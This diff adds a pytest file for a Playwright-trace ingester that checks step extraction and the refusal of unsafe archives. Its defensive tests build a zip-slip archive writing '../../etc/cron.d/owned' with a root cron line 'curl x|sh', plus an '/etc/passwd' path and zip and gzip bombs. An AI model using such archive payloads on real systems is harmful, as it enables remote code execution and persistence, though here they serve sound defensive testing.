@@ -1,0 +1,133 @@
+import json
+import zipfile
+
+import pytest
+
+from ingest.browser import playwright_trace
+from ingest.safe_zip import Limits, SafeZip, gunzip
+from ingest.source import SourceError
+from tests.conftest import SAMPLES
+
+TRACE = SAMPLES / "browser" / "playwright-trace" / "test-trace1.zip"
+
+
+def test_trace_calls_become_steps_with_dom_snapshots_as_observations(run, query):
+    result = run("ingest-browser", [TRACE])
+    assert result.status == "success" and result.episodes == 1 and result.steps == 2
+    steps = query("SELECT * FROM steps ORDER BY step_index")
+    new_page, goto = steps[0]["action"], steps[1]["action"]
+    assert new_page["kind"] == "code" and new_page["code"] == "browserContext.newPage({})"
+    assert goto["kind"] == "navigate" and goto["text"] == "https://playwright.dev/"
+    assert json.loads(goto["arguments"]) == {"url": "https://playwright.dev/", "waitUntil": "load"}
+    assert json.loads(goto["raw"])["before"]["callId"] == "call@11"
+    assert json.loads(goto["raw"])["after"]["endTime"] == 1126.362
+    assert steps[0]["observation"]["kind"] == "none"  # no page existed before newPage
+    before_goto = steps[1]["observation"]
+    assert before_goto["url"] == "about:blank" and before_goto["width"] == 1280 and before_goto["height"] == 720
+    final = steps[1]["final_observation"]  # after@call@11, rendered from the DOM snapshot
+    assert final["url"] == "https://playwright.dev/" and final["title"] == "Playwright"
+    assert final["text"].startswith("URL: https://playwright.dev/\nTitle: Playwright\n")
+    assert 'link "Docs" -> /docs/intro' in final["text"]
+    assert "heading1 \"Playwright enables reliable end-to-end testing for modern web apps.\"" in final["text"]
+    assert json.loads(final["ui_tree"])[0] == "HTML"
+    assert final["screenshot"] is None  # the archive does not hold its screencast JPEGs
+    assert str(steps[1]["timestamp"]) == "2024-05-08 23:19:25.419000+00:00"
+    assert steps[1]["is_terminal"]  # every call closed: the test script ran to its end
+    ep = query("SELECT * FROM episodes")[0]
+    assert ep["task"] == "simple.spec.ts:3 › my test" and ep["source_format"] == "playwright_trace"
+    env = json.loads(ep["env"])
+    assert env["trace_version"] == 6 and env["browser"] == "chromium" and env["requests"] == 18
+    assert env["documents"][0] == {"url": "https://playwright.dev/", "status": 200}
+
+
+def _rezip(src, dst, extra: dict[str, bytes] = (), drop=()):
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            if info.filename not in drop:
+                zout.writestr(info.filename, zin.read(info))
+        for name, data in dict(extra).items():
+            zout.writestr(name, data)
+    return dst
+
+
+def test_screencast_frame_in_the_archive_goes_to_the_blob_store(run, query, tmp_path):
+    jpeg = b"\xff\xd8\xff\xe0fake-jpeg-bytes"
+    frame = "resources/page@14f363462352fa9b4aafdd3573fe6b07-1715210366.075412.jpeg"  # the frame at 1119.7 ms
+    path = _rezip(TRACE, tmp_path / "trace.zip", {frame: jpeg})
+    run("ingest-browser", [path])
+    final = query("SELECT final_observation AS f FROM steps WHERE is_last")[0]["f"]
+    assert final["screenshot"].startswith("sha256:")
+    blob = query(f"SELECT * FROM blobs WHERE sha256 = '{final['screenshot'][7:]}'")[0]
+    assert blob["size_bytes"] == len(jpeg) and blob["media_type"] == "image/jpeg"
+
+
+def test_old_trace_version_is_refused_with_its_version(run, query, tmp_path):
+    with zipfile.ZipFile(TRACE) as z:
+        lines = z.read("0-trace.trace").decode().splitlines()
+    lines[0] = lines[0].replace('"version":6', '"version":3')
+    path = _rezip(TRACE, tmp_path / "old.zip", {"0-trace.trace": "\n".join(lines).encode()}, drop={"0-trace.trace"})
+    result = run("ingest-browser", [path])
+    assert result.episodes == 0
+    row = query("SELECT * FROM quarantine")[0]
+    assert row["rule"] == "unsupported_version" and "version 3" in row["reason"]
+
+
+def test_zip_with_parent_paths_is_refused_before_reading(run, query, tmp_path):
+    path = tmp_path / "evil.zip"
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("0-trace.trace", b'{"version":6,"type":"context-options"}\n')
+        z.writestr("../../etc/cron.d/owned", b"* * * * * root sh -c 'curl x|sh'\n")
+    result = run("ingest-browser", [path])
+    assert result.status == "success" and result.episodes == 0 and result.quarantined == 1
+    row = query("SELECT * FROM quarantine")[0]
+    assert row["rule"] == "unsafe_archive_path"
+    assert "'../../etc/cron.d/owned' has an absolute or parent-relative path" in row["reason"]
+
+
+def test_zip_bomb_is_refused_by_its_compression_ratio(run, query, tmp_path):
+    path = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("0-trace.trace", b'{"version":6,"type":"context-options"}\n' + b" " * (16 << 20))
+    assert path.stat().st_size < 100_000
+    result = run("ingest-browser", [path])
+    assert result.episodes == 0
+    row = query("SELECT * FROM quarantine")[0]
+    assert row["rule"] == "archive_too_large" and "a zip bomb" in row["reason"]
+    assert "'0-trace.trace' expands" in row["reason"]
+
+
+def test_safe_zip_limits_on_member_count_size_and_absolute_names(tmp_path):
+    path = tmp_path / "many.zip"
+    with zipfile.ZipFile(path, "w") as z:
+        for i in range(5):
+            z.writestr(f"f{i}", b"0123456789")
+    with pytest.raises(SourceError) as err:
+        SafeZip(path.read_bytes(), "many.zip", Limits(max_members=4))
+    assert err.value.rule == "archive_too_large" and "5 members" in err.value.reason
+    with pytest.raises(SourceError) as err:
+        SafeZip(path.read_bytes(), "many.zip", Limits(max_total_bytes=40))
+    assert err.value.rule == "archive_too_large" and "50 bytes" in err.value.reason
+    with zipfile.ZipFile(abs_path := tmp_path / "abs.zip", "w") as z:
+        z.writestr(zipfile.ZipInfo("/etc/passwd"), b"root")
+    with pytest.raises(SourceError) as err:
+        SafeZip(abs_path.read_bytes(), "abs.zip")
+    assert err.value.rule == "unsafe_archive_path"
+    with pytest.raises(SourceError) as err:
+        SafeZip(b"not a zip", "x.zip")
+    assert err.value.rule == "bad_archive"
+
+
+def test_gunzip_refuses_a_gzip_bomb():
+    import gzip
+
+    bomb = gzip.compress(b"\0" * (8 << 20))
+    with pytest.raises(SourceError) as err:
+        gunzip(bomb, "step_0.pkl.gz")
+    assert err.value.rule == "archive_too_large" and "gzip bomb" in err.value.reason
+    assert gunzip(gzip.compress(b"hello"), "x.gz") == b"hello"
+
+
+def test_trace_detection_sniffs_the_first_member():
+    head = TRACE.read_bytes()[:4096]
+    assert playwright_trace.looks_like_trace(head)
+    assert not playwright_trace.looks_like_trace(b"PK\x03\x04" + b"\0" * 22 + b"\x08\0\0\0" + b"word.xml")
